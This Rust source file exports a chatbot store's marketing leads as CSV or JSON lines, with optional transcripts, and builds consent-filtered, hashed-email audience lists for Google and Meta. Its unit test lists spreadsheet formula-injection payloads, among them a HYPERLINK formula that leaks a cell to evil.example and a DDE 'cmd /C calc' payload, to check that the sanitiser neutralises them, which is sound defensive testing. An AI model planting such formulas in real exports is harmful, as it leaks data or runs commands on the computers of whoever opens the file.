//! Exports of the store for marketers: leads as CSV or JSON lines, streamed one visitor at a
//! time, with every captured preference and (optionally) the transcripts.

use std::io::Write;

use serde_json::json;

use crate::domain::{Conversation, Entry, Order, Profile, Speaker, Status};
use crate::store::{Store, StoreError};

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Csv,
    Jsonl,
}

#[derive(Debug, Default, Clone)]
pub struct LeadFilter {
    pub status: Option<Status>,
    pub campaign: Option<String>,
    pub tag: Option<String>,
    /// `utm_source` and `utm_medium` of the visitor's last visit with UTM parameters.
    pub source: Option<String>,
    pub medium: Option<String>,
    /// Only the visitors in this segment (`intents/journeys/`) now ...
    pub segment: Option<crate::journeys::Segment>,
    /// ... judged with this learned lead model, at this time (ms since the epoch).
    pub model: Option<std::sync::Arc<crate::leads::learned::Model>>,
    pub now: u64,
}

impl LeadFilter {
    /// What a file of this selection is called after: `spring-converted`, `all` without one
    /// (letters, digits, `-` and `_` only).
    pub fn slug(&self) -> String {
        let parts = [
            self.campaign.as_deref(),
            self.source.as_deref(),
            self.medium.as_deref(),
            self.segment.as_ref().map(|s| s.id.as_str()),
            self.status.map(Status::as_str),
            self.tag.as_deref(),
        ];
        let slug: Vec<String> = parts
            .into_iter()
            .flatten()
            .map(|part| part.chars().map(|c| if c.is_ascii_alphanumeric() || c == '-' { c } else { '_' }).collect())
            .collect();
        if slug.is_empty() { "all".into() } else { slug.join("-") }
    }

    pub fn matches(&self, p: &Profile) -> bool {
        self.status.is_none_or(|s| p.status == s)
            && self.campaign.as_ref().is_none_or(|c| p.campaign.as_ref() == Some(c))
            && self.tag.as_ref().is_none_or(|t| p.tags.contains(t))
            && self.source.as_ref().is_none_or(|s| p.utm.get("source") == Some(s))
            && self.medium.as_ref().is_none_or(|m| p.utm.get("medium") == Some(m))
            && self
                .segment
                .as_ref()
                .is_none_or(|s| s.contains(p, crate::journeys::Moment { now: self.now, model: self.model.as_deref() }))
    }

    /// Whether only the indexes' own keys (status, campaign) are filtered on, so they can count.
    pub fn indexed(&self) -> bool {
        self.tag.is_none() && self.source.is_none() && self.medium.is_none() && self.segment.is_none()
    }

    /// Every visitor that passes, oldest first, read through the status or campaign index
    /// when the filter names one.
    pub fn profiles<'a>(&'a self, store: &'a Store) -> impl Iterator<Item = Result<Profile, StoreError>> + 'a {
        let profiles: Box<dyn Iterator<Item = Result<Profile, StoreError>>> = match (&self.status, &self.campaign) {
            (Some(status), _) => Box::new(store.visitors_with_status(*status)),
            (None, Some(campaign)) => Box::new(store.visitors_in_campaign(campaign)),
            (None, None) => Box::new(store.visitors()),
        };
        profiles.filter(move |p| p.as_ref().is_err() || p.as_ref().is_ok_and(|p| self.matches(p)))
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error("writing the export: {0}")]
    Io(#[from] std::io::Error),
    #[error("writing the export: {0}")]
    Csv(#[from] csv::Error),
}

const CSV_HEADER: [&str; 19] = [
    "visitor",
    "name",
    "email",
    "consent_marketing",
    "consent_ads",
    "consent_at",
    "status",
    "chatting_at",
    "qualified_at",
    "checkout_clicked_at",
    "converted_at",
    "score",
    "tags",
    "campaign",
    "source",
    "messages",
    "preferences",
    "orders",
    "order_value",
];

/// Writes every lead that passes `filter`; `progress` is called with (done, total) after each.
pub fn leads(
    store: &Store,
    filter: &LeadFilter,
    format: Format,
    transcripts: bool,
    out: impl Write,
    mut progress: impl FnMut(u64, u64),
) -> Result<u64, ExportError> {
    let total = store.visitor_count() as u64;
    let leads = filter.profiles(store).enumerate().map(|(done, profile)| {
        progress(done as u64 + 1, total);
        Lead::read(store, profile?)
    });
    let mut written = 0u64;
    match format {
        Format::Csv => {
            let mut w = csv::Writer::from_writer(out);
            w.write_record(CSV_HEADER)?;
            for lead in leads {
                w.write_record(lead?.csv_row().iter().map(|cell| csv_cell(cell).into_owned()))?;
                written += 1;
            }
            w.flush()?;
        }
        Format::Jsonl => {
            let mut out = out;
            for lead in leads {
                serde_json::to_writer(&mut out, &lead?.json(transcripts)).map_err(std::io::Error::from)?;
                out.write_all(b"\n")?;
                written += 1;
            }
            out.flush()?;
        }
    }
    Ok(written)
}

/// A cell a spreadsheet will not run: text that starts like a formula (`=`, `+`, `-`, `@`, tab,
/// carriage return; OWASP's list) gets a leading `'`. Campaigns, click ids, emails and
/// preferences come from shoppers. Plain numbers (a negative score) stay numbers.
fn csv_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
    if formula { format!("'{cell}").into() } else { cell.into() }
}

/// Ad platforms' customer-list upload formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Platform {
    /// Google Ads Customer Match: column `Email`.
    Google,
    /// Meta custom audiences: column `email`.
    Meta,
}

/// The audience list: SHA-256 (hex) of the normalized (trimmed, lowercased) email of every
/// visitor who gave ads consent and passes `filter`; raw addresses never leave.
impl Platform {
    pub fn name(self) -> &'static str {
        match self {
            Platform::Google => "google",
            Platform::Meta => "meta",
        }
    }
}

pub fn audience(store: &Store, filter: &LeadFilter, platform: Platform, out: impl Write) -> Result<u64, ExportError> {
    use sha2::Digest;
    let mut w = csv::Writer::from_writer(out);
    w.write_record([match platform {
        Platform::Google => "Email",
        Platform::Meta => "email",
    }])?;
    let mut written = 0;
    for profile in filter.profiles(store) {
        let profile = profile?;
        if !profile.consent.as_ref().is_some_and(|c| c.ads) {
            continue;
        }
        if let Some(email) = profile.preference("email").and_then(|e| crate::ids::Email::parse(e).ok()) {
            let digest = sha2::Sha256::digest(email.as_str().as_bytes());
            w.write_record([digest.iter().map(|b| format!("{b:02x}")).collect::<String>()])?;
            written += 1;
        }
    }
    w.flush()?;
    Ok(written)
}

/// One visitor with what the export needs from the other trees.
struct Lead {
    profile: Profile,
    conversations: Vec<(Conversation, Vec<Entry>)>,
    orders: Vec<Order>,
}

impl Lead {
    fn read(store: &Store, profile: Profile) -> Result<Lead, StoreError> {
        let mut conversations = Vec::new();
        for conversation in store.conversations_of(&profile.id)? {
            let transcript = store.transcript(&conversation.id)?;
            conversations.push((conversation, transcript));
        }
        let mut orders = Vec::new();
        for id in &profile.orders {
            orders.extend(store.order(id)?);
        }
        Ok(Lead { profile, conversations, orders })
    }

    fn messages(&self) -> usize {
        self.conversations.iter().flat_map(|(_, t)| t).filter(|e| e.from == Speaker::Shopper).count()
    }

    fn csv_row(&self) -> Vec<String> {
        let p = &self.profile;
        let time = |t: Option<u64>| t.map(rfc3339).unwrap_or_default();
        let status_at = |s: Status| time(p.status_at.get(&s).copied());
        let consent = p.consent.as_ref();
        let source = self.conversations.last().map(|(c, _)| source_text(c)).unwrap_or_default();
        let preferences: Vec<String> =
            p.preferences.iter().map(|(name, pref)| format!("{name}={}@{}", pref.value, rfc3339(pref.at))).collect();
        vec![
            p.id.to_string(),
            p.preference("name").unwrap_or_default().to_string(),
            p.preference("email").unwrap_or_default().to_string(),
            consent.map(|c| c.marketing.to_string()).unwrap_or_default(),
            consent.map(|c| c.ads.to_string()).unwrap_or_default(),
            time(consent.map(|c| c.at)),
            p.status.as_str().to_string(),
            status_at(Status::Chatting),
            status_at(Status::Qualified),
            status_at(Status::CheckoutClicked),
            status_at(Status::Converted),
            p.score.to_string(),
            p.tags.iter().cloned().collect::<Vec<_>>().join(";"),
            p.campaign.clone().unwrap_or_default(),
            source,
            self.messages().to_string(),
            preferences.join("; "),
            self.orders.iter().map(|o| o.id.clone()).collect::<Vec<_>>().join(";"),
            // Folded from +0.0: `sum` of no orders is -0.0, which prints as "-0.00".
            format!("{:.2}", self.orders.iter().fold(0.0, |total, o| total + o.value)),
        ]
    }

    fn json(&self, transcripts: bool) -> serde_json::Value {
        let p = &self.profile;
        let conversations: Vec<_> = self
            .conversations
            .iter()
            .map(|(c, t)| {
                let mut value = json!({
                    "id": c.id,
                    "started_at": rfc3339(c.started_at),
                    "source": c.source,
                    "messages": t.iter().filter(|e| e.from == Speaker::Shopper).count(),
                });
                if transcripts {
                    value["transcript"] = serde_json::to_value(t).unwrap_or_default();
                }
                value
            })
            .collect();
        let preferences: serde_json::Map<String, serde_json::Value> = p
            .preferences
            .iter()
            .map(|(k, v)| (k.clone(), json!({ "value": v.value, "at": rfc3339(v.at), "message": v.message })))
            .collect();
        json!({
            "visitor": p.id,
            "name": p.preference("name"),
            "email": p.preference("email"),
            "consent": p.consent,
            "status": p.status,
            "status_at": p.status_at.iter().map(|(s, t)| (s.as_str(), rfc3339(*t))).collect::<std::collections::BTreeMap<_, _>>(),
            "score": p.score,
            "tags": p.tags,
            "campaign": p.campaign,
            "preferences": preferences,
            "messages": self.messages(),
            "conversations": conversations,
            "orders": self.orders,
        })
    }
}

/// The landing page's attribution in one cell: UTM parameters, click ids, referrer.
fn source_text(c: &Conversation) -> String {
    let mut parts: Vec<String> = c.source.utm.iter().map(|(k, v)| format!("utm_{k}={v}")).collect();
    parts.extend(c.source.click_ids.iter().map(|(k, v)| format!("{k}={v}")));
    if let Some(r) = &c.source.referrer {
        parts.push(format!("referrer={r}"));
    }
    parts.join(" ")
}

/// Milliseconds since the epoch as an RFC 3339 UTC time.
pub fn rfc3339(ms: u64) -> String {
    humantime::format_rfc3339_seconds(std::time::UNIX_EPOCH + std::time::Duration::from_millis(ms)).to_string()
}

#[cfg(test)]
mod tests {
    use super::csv_cell;

    #[test]
    fn cells_that_would_run_as_formulas_are_neutralised() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
            ),
            ("+1+2", "'+1+2"),
            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-3", "-3"),
            ("spring", "spring"),
            ("ana@example.com", "ana@example.com"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(cell), written, "{cell:?}");
        }
    }
}
